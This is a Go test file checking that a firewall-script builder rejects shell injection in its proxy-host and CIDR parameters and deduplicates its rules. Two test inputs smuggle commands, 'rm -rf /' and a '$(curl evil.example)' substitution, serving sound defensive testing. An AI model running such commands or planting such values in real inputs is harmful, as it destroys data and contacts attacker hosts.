package network

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestBuildFirewallScriptRejectsInjectionInProxyHost(t *testing.T) {
	_, err := BuildFirewallScript(FirewallParams{
		ProxyHost:   "secrets-proxy; rm -rf /",
		ProxyPort:   3000,
		GithubCIDRs: DefaultGithubCIDRs(),
	})
	require.Error(t, err)
}

func TestBuildFirewallScriptRejectsInjectionInCIDR(t *testing.T) {
	_, err := BuildFirewallScript(FirewallParams{
		ProxyHost:   "secrets-proxy",
		ProxyPort:   3000,
		GithubCIDRs: []string{"140.82.112.0/20", "$(curl evil.example)"},
	})
	require.Error(t, err)
}

func TestBuildFirewallScriptDedupesAndIncludesExpectedRules(t *testing.T) {
	script, err := BuildFirewallScript(FirewallParams{
		ProxyHost:   "secrets-proxy",
		ProxyPort:   3000,
		GithubCIDRs: []string{"140.82.112.0/20", "140.82.112.0/20"},
	})
	require.NoError(t, err)
	require.Equal(t, 1, strings.Count(script, "140.82.112.0/20 --dport 443"))
	require.Contains(t, script, "PAID_AGENT_BLOCK: ")
	require.Contains(t, script, "-P OUTPUT DROP")
}
